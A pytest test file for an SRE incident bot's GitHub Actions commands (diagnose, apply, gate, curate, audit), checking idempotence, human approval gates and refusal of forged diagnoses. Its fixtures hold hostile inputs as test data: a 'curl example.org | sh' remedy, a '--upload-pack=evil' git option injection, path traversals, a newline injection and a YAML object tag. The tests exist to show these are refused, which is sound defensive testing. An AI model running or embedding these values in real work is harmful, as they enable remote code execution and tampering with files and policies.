"""The commands that jobs in Actions run, against the embedded GitHub: what each leaves behind, and that a second run changes nothing."""

from __future__ import annotations

import asyncio
import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bot.__main__ import EXIT_REFUSED, EXIT_RETRY, main
from bot.codec import from_json, to_json
from bot.commands.apply import DIAGNOSIS_LIMIT_BYTES, read_diagnosis
from bot.errors import Refused
from bot.journal import AttemptRecord, CommandRecord, DiagnosisRecord, OutcomeRecord, PostMortemRecord
from bot.model import OutcomeKind, Remedy, UseResult
from bot.names import FixBranch
from tests.job_world import BOT, INCIDENT, KEYRING, RATES, STARTED_S, Jobs, jobs
from tests.local.github_world import write_files

# --- settings


@pytest.mark.parametrize(
    "argv",
    [
        ["diagnose", "--issue", "1", "--attempt", "1", "--out", "x.json"],
        ["curate", "--issue", "1"],
        ["audit", "--propose"],
    ],
)
def test_a_job_without_settings_names_them_and_refuses(
    argv: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(argv, {"SRE_MARKER_KEY": "very secret"}) == EXIT_REFUSED
    said = capsys.readouterr().err
    assert "SRE_GITHUB_TOKEN" in said and "SRE_REPOSITORY" in said and "very secret" not in said


def test_a_gate_without_settings_is_no_green_check(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert main(["gate", "--pull", "1"], {"GITHUB_STEP_SUMMARY": str(tmp_path / "summary")}) == 3
    assert "SRE_GITHUB_TOKEN" in capsys.readouterr().out and "Could not judge #1" in (tmp_path / "summary").read_text()


def test_wrong_settings_and_commands_are_told(capsys: pytest.CaptureFixture[str]) -> None:
    wrong = {"SRE_GITHUB_TOKEN": "secret-token", "SRE_REPOSITORY": "not a repository", "GITHUB_API_URL": "http://example.org"}
    assert main(["curate", "--issue", "1"], wrong) == EXIT_REFUSED
    said = capsys.readouterr().err
    assert "SRE_REPOSITORY" in said and "GITHUB_API_URL" in said and "secret-token" not in said
    assert main(["heal"], {}) == EXIT_REFUSED and main([], {}) == EXIT_REFUSED
    for bad in (["gate", "--pull", "../1"], ["gate"], ["gate", "--pull", "0"]):
        assert main(bad, {"GITHUB_REF": "refs/heads/main"}) == EXIT_REFUSED


def test_a_github_that_is_away_is_tried_again_later(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            away = {"GITHUB_API_URL": "http://127.0.0.1:1"}
            assert await j.run("curate", "--issue", str(j.number), **away) == EXIT_RETRY
            assert await j.run("gate", "--pull", "1", **away) == 3

    asyncio.run(story())


# --- apply


def test_apply_opens_exactly_one_pull_request_and_running_it_twice_changes_nothing(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.apply(j.diagnosis()) == 0
            (pull,) = await j.pulls()
            assert (pull["head"]["ref"], pull["user"]["login"]) == (str(FixBranch(INCIDENT.fingerprint, j.number, 1)), BOT)
            assert f"Refs #{j.number}" in pull["body"] and "Closes" not in pull["body"]
            assert j.world.github.read_file(pull["head"]["sha"], "app/shop/rates.py") == RATES.encode()
            (record,) = await j.records(j.number, DiagnosisRecord)
            assert isinstance(record, DiagnosisRecord) and record.diagnosis == j.revert()
            before = await j.state()
            assert await j.apply(j.diagnosis()) == 0
            assert await j.state() == before

    asyncio.run(story())


def test_a_second_answer_for_the_same_attempt_counts_for_nothing(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.apply(j.diagnosis()) == 0
            before = await j.state()
            parameters = (("timeout_s", "1.0"), ("breaker.enabled", "true"))
            other = replace(j.revert(), remedy=Remedy("bound-dependency", service="shop", dependency="bank", parameters=parameters))
            assert await j.apply(j.diagnosis(other)) == 0
            assert await j.state() == before, "the first one stands"

    asyncio.run(story())


def test_a_person_closed_the_pull_request_and_apply_does_not_open_another(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.apply(j.diagnosis()) == 0
            (pull,) = await j.pulls()
            await j.world.do("alice", "PATCH", f"/pulls/{pull['number']}", {"state": "closed"})
            assert await j.apply(j.diagnosis()) == 0
            assert [p["state"] for p in await j.pulls()] == ["closed"]

    asyncio.run(story())


def test_an_unsure_diagnosis_is_recorded_and_proposes_nothing(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.apply(j.diagnosis(j.revert(confidence=0.5))) == 0
            assert len(await j.records(j.number, DiagnosisRecord)) == 1 and await j.pulls() == []

    asyncio.run(story())


FORGED: dict[str, Any] = {
    "not JSON": "Traceback (most recent call last)",
    "nested without end": "[" * 100_000,
    "no object": [1, 2],
    "another attempt": {"attempt": 2},
    "attempt as text": {"attempt": "1"},
    "unknown field": {"approved": True},
    "no diagnosis": {"diagnosis": None},
    "confidence 2.0": {"diagnosis.confidence": 2.0},
    "confidence below nothing": {"diagnosis.confidence": -0.1},
    "confidence not a number": {"diagnosis.confidence": float("nan")},
    "confidence as text": {"diagnosis.confidence": "0.99"},
    "a figure without end": {"diagnosis.features": [{"name": "deepest", "value": float("inf"), "weight": 1.0, "why": ""}]},
    "another kind of remedy": {"diagnosis.remedy": {"kind": "run", "summary": "curl example.org | sh"}},
    "half a character": {"diagnosis.cause": "\ud83d"},
}


def test_a_diagnosis_too_large_to_be_one_is_not_even_read_to_its_end(tmp_path: Path) -> None:
    file = tmp_path / "diagnosis.json"
    file.write_text(" " * (DIAGNOSIS_LIMIT_BYTES + 1))
    with pytest.raises(Refused, match=f"larger than {DIAGNOSIS_LIMIT_BYTES} bytes"):
        read_diagnosis(file, 1)


def forged_file(j: Jobs, forged: Any) -> Path:
    """A diagnosis with these fields instead of its own; what is no dictionary is the whole file."""
    content = forged
    if isinstance(forged, dict):
        content = to_json(DiagnosisRecord(1, j.revert(), j.base))
        for key, value in forged.items():
            inside, _, name = key.rpartition(".")
            (content[inside] if inside else content)[name] = value
    return j.file(content)


def test_a_forged_diagnosis_is_refused_and_leaves_no_trace(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            before = await j.state()
            for how, forged in FORGED.items():
                assert await j.apply(forged_file(j, forged)) == EXIT_REFUSED, how
                assert "sre-space apply: " in capsys.readouterr().err, how
                assert await j.state() == before, how

    asyncio.run(story())


def bound(service: str = "shop", dependency: str = "bank", name: str = "timeout_s", value: str = "1.0") -> Remedy:
    return Remedy("bound-dependency", service=service, dependency=dependency, parameters=((name, value),))


TRICKS = {
    "service": bound(service="../../.github"),
    "dependency": bound(dependency="../bank"),
    "two lines": bound(value="1.0\nadmin: true"),
    "another file": bound(name="../../policies/guardrail", value="off"),
    "a YAML tag": bound(value="!!python/object"),
    "commit path": Remedy("revert", commit="../../../user"),
    "commit option": Remedy("revert", commit="--upload-pack=evil"),
    "unknown commit": Remedy("revert", commit="f" * 40),
    "nothing": Remedy("revert"),
}


def test_tricks_in_a_remedy_end_the_attempt_and_reach_no_file(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            for n, (trick, remedy) in enumerate(TRICKS.items()):
                number = await j.open_incident(replace(INCIDENT, fingerprint=f"{n:012x}"))
                await j.record(number, AttemptRecord(1, STARTED_S))
                file = j.diagnosis(replace(j.revert(), remedy=remedy))
                assert await j.run("apply", "--issue", str(number), "--attempt", "1", "--diagnosis", str(file)) == 0, trick
                (ended,) = await j.records(number, OutcomeRecord)
                assert isinstance(ended, OutcomeRecord) and ended.outcome is OutcomeKind.ERROR, trick
                refs = [ref["ref"] for ref in await j.world.do("alice", "GET", "/git/matching-refs/heads/")]
                assert await j.pulls() == [] and refs == ["refs/heads/main"], trick

    asyncio.run(story())


def test_apply_wants_an_incident_of_ours_and_an_attempt_that_was_begun(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            body = (await j.world.do("alice", "GET", f"/issues/{j.number}"))["body"]
            forged = (await j.world.do("wendy", "POST", "/issues", {"title": "x", "body": body, "labels": ["sre:incident"]}))["number"]
            before = await j.state()
            file = j.diagnosis()
            assert await j.run("apply", "--issue", str(forged), "--attempt", "1", "--diagnosis", str(file)) == EXIT_REFUSED
            assert await j.run("apply", "--issue", "999", "--attempt", "1", "--diagnosis", str(file)) == EXIT_REFUSED
            assert await j.run("apply", "--issue", str(j.number), "--attempt", "1", "--diagnosis", "nowhere.json") == EXIT_REFUSED
            second = j.diagnosis(attempt=2)
            assert await j.run("apply", "--issue", str(j.number), "--attempt", "2", "--diagnosis", str(second)) == EXIT_REFUSED
            assert await j.apply(j.diagnosis()) == 0, "the genuine one is taken"
            assert await j.state() != before

    asyncio.run(story())


# --- gate


def test_the_gate_allows_the_bots_own_fix_and_denies_what_somebody_added(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.apply(j.diagnosis()) == 0
            (pull,) = await j.pulls()
            number, summary = str(pull["number"]), tmp_path / "summary.md"
            before = await j.state()
            assert await j.run("gate", "--pull", number, GITHUB_STEP_SUMMARY=str(summary)) == 0
            assert await j.state() == before, "it reads only"
            assert "allow" in summary.read_text().lower() and pull["head"]["sha"][:12] in capsys.readouterr().out
            queue = f"refs/heads/gh-readonly-queue/main/pr-{number}-{'a' * 40}"
            assert await j.run("gate", GITHUB_REF=queue) == 0

            sha = await j.world.commit({"app/shop/rates.py": "import evil\n"}, parent=pull["head"]["sha"], who="wendy")
            await j.world.do("wendy", "PATCH", f"/git/refs/heads/{pull['head']['ref']}", {"sha": sha})
            assert await j.run("gate", "--pull", number) == 2
            assert "deny" in capsys.readouterr().out.lower()

    asyncio.run(story())


def test_the_gate_asks_a_person_about_a_doubtful_fix_until_one_approves_this_head(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.apply(j.diagnosis()) == 0
            (pull,) = await j.pulls()
            comments = await j.world.do("alice", "GET", f"/issues/{j.number}/comments")
            (sure,) = [c["id"] for c in comments if any(isinstance(r, DiagnosisRecord) for r in KEYRING.read(c["body"], j.number))]
            doubtful = KEYRING.seal(DiagnosisRecord(1, j.revert(confidence=0.6), j.base), j.number)
            await j.world.do(BOT, "PATCH", f"/issues/comments/{sure}", {"body": doubtful})
            assert await j.run("gate", "--pull", str(pull["number"])) == 1
            approval = CommandRecord(77, "approve", "alice", True, pull["head"]["sha"], pull["number"])
            await j.record(pull["number"], approval)
            assert await j.run("gate", "--pull", str(pull["number"])) == 0

    asyncio.run(story())


def test_the_gate_lets_peoples_pull_requests_pass_and_cannot_judge_what_is_not_there(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            theirs = await j.world.pull("feature/x", {"policies/guardrail.yaml": "rules: []\n"}, who="wendy")
            assert await j.run("gate", "--pull", str(theirs["number"])) == 0
            imitated = await j.world.pull(str(FixBranch(INCIDENT.fingerprint, j.number, 1)), {"app/shop/rates.py": RATES}, who="wendy")
            assert await j.run("gate", "--pull", str(imitated["number"])) == 2
            assert await j.run("gate", "--pull", "999") == 3
            assert await j.run("gate", "--pull", str(theirs["number"]), SRE_GITHUB_TOKEN="ghs_wrong") == 3
            assert await j.run("gate", "--pull", str(theirs["number"]), SRE_POLICIES_DIR=str(tmp_path / "nowhere")) == 3

    asyncio.run(story())


# --- diagnose, curate, audit


def test_diagnose_needs_no_right_to_write_and_says_what_it_found_in_a_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            token = j.world.github.issue_job_token({"contents": "read", "issues": "read", "pull-requests": "read"}, 1)
            before, out = await j.state(), tmp_path / "out.json"
            argv = ("diagnose", "--issue", str(j.number), "--attempt", "1", "--out", str(out))
            assert await j.run(*argv, SRE_GITHUB_TOKEN=token) == 0
            record = from_json(DiagnosisRecord, json.loads(out.read_text()))
            assert (record.attempt, record.base_sha, record.diagnosis.remedy) == (1, j.base, None)
            assert record.diagnosis.verdict != "culprit", "there is no evidence in this incident"
            assert await j.state() == before and "brain:" in capsys.readouterr().out
            assert await j.run(*argv[:4], "2", "--out", str(out), SRE_GITHUB_TOKEN=token) == EXIT_REFUSED
            assert (
                await j.run("apply", "--issue", str(j.number), "--attempt", "1", "--diagnosis", str(out), SRE_GITHUB_TOKEN=token)
                == EXIT_REFUSED
            )
            assert await j.state() == before, "the reading token applies nothing"
            assert await j.apply(out) == 0 and len(await j.records(j.number, DiagnosisRecord)) == 1

    asyncio.run(story())


async def healed(j: Jobs, number: int) -> None:
    await j.record(number, DiagnosisRecord(1, j.revert(), j.base))
    await j.record(number, OutcomeRecord(1, OutcomeKind.HEALED, "well again", time.time()))
    await j.world.do(BOT, "PATCH", f"/issues/{number}", {"state": "closed"})


def test_curate_writes_one_lesson_and_an_index_that_was_lost_comes_back(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.run("curate", "--issue", str(j.number)) == 0
            assert await j.records(j.number, PostMortemRecord) == [], "it is open: nothing is learnt yet"
            await healed(j, j.number)
            assert await j.run("curate", "--branch", str(FixBranch(INCIDENT.fingerprint, j.number, 1))) == 0
            (record,) = await j.records(j.number, PostMortemRecord)
            assert isinstance(record, PostMortemRecord) and record.post_mortem.outcome is OutcomeKind.HEALED
            assert (record.post_mortem.issue, record.post_mortem.cause) == (j.number, "new rates broke it")
            before = await j.state()
            assert await j.run("curate", "--issue", str(j.number)) == 0
            assert await j.state() == before

            second = await j.open_incident(replace(INCIDENT, fingerprint="f" * 12))
            await j.record(second, AttemptRecord(1, STARTED_S))
            await healed(j, second)
            assert await j.run("curate", "--issue", str(second)) == 0
            assert "2 incident(s) in memory" in capsys.readouterr().out
            before = await j.state()
            assert await j.run("curate", "--issue", str(second), SRE_CHROMA_PATH=str(tmp_path / "empty")) == 0
            assert "2 incident(s) in memory" in capsys.readouterr().out, "GitHub has it all"
            assert await j.state() == before

    asyncio.run(story())


def test_curate_learns_that_a_person_refused_the_fix_though_nobody_had_written_that_down(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            assert await j.apply(j.diagnosis(replace(j.revert(), signature="some kind of cause"))) == 0
            (pull,) = await j.pulls()
            await j.world.do("alice", "PATCH", f"/pulls/{pull['number']}", {"state": "closed"})
            await j.world.do("alice", "PATCH", f"/issues/{j.number}", {"state": "closed"})
            assert await j.run("curate", "--issue", str(j.number)) == 0
            (record,) = await j.records(j.number, PostMortemRecord)
            assert isinstance(record, PostMortemRecord) and record.post_mortem.outcome is OutcomeKind.INCONCLUSIVE
            assert [(use.result, use.pull) for use in record.post_mortem.uses] == [(UseResult.REFUSED, pull["number"])]

    asyncio.run(story())


def test_curate_learns_nothing_from_what_is_not_ours(tmp_path: Path) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            body = (await j.world.do("alice", "GET", f"/issues/{j.number}"))["body"]
            forged = (await j.world.do("wendy", "POST", "/issues", {"title": "x", "body": body, "labels": ["sre:incident"]}))["number"]
            await j.world.do("wendy", "PATCH", f"/issues/{forged}", {"state": "closed"})
            await j.world.do("wendy", "PATCH", f"/issues/{j.number}", {"state": "closed"})
            before = await j.state()
            assert await j.run("curate", "--issue", str(forged)) == 0
            assert await j.run("curate", "--issue", str(j.number)) == 0, "no attempt ended: nothing to learn"
            for branch in ("feature/x", "sre/../../main", f"sre/{INCIDENT.fingerprint}/0/1"):
                assert await j.run("curate", "--branch", branch) == EXIT_REFUSED
            assert await j.run("curate", "--issue", "999") == 0
            assert await j.state() == before

    asyncio.run(story())


def test_audit_keeps_one_proposal_current(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async def story() -> None:
        async with jobs(tmp_path) as j:
            checkout = tmp_path / "checkout"
            write_files(checkout, {"client.py": "import requests\n\nrequests.get('https://example.org')\n"})
            monkeypatch.chdir(checkout)
            assert await j.run("audit") == 1
            assert await j.run("audit", "--propose") == 0
            (issue,) = await j.world.do("alice", "GET", "/issues?labels=sre:proposal&state=all")
            assert issue["state"] == "open" and "client.py:3" in issue["body"]
            before = await j.state()
            assert await j.run("audit", "--propose") == 0
            assert await j.state() == before
            write_files(checkout, {"client.py": "import requests\n\nrequests.get('https://example.org', timeout=5)\n"})
            assert await j.run("audit") == 0 and await j.run("audit", "--propose") == 0
            (issue,) = await j.world.do("alice", "GET", "/issues?labels=sre:proposal&state=all")
            assert issue["state"] == "closed"

    asyncio.run(story())
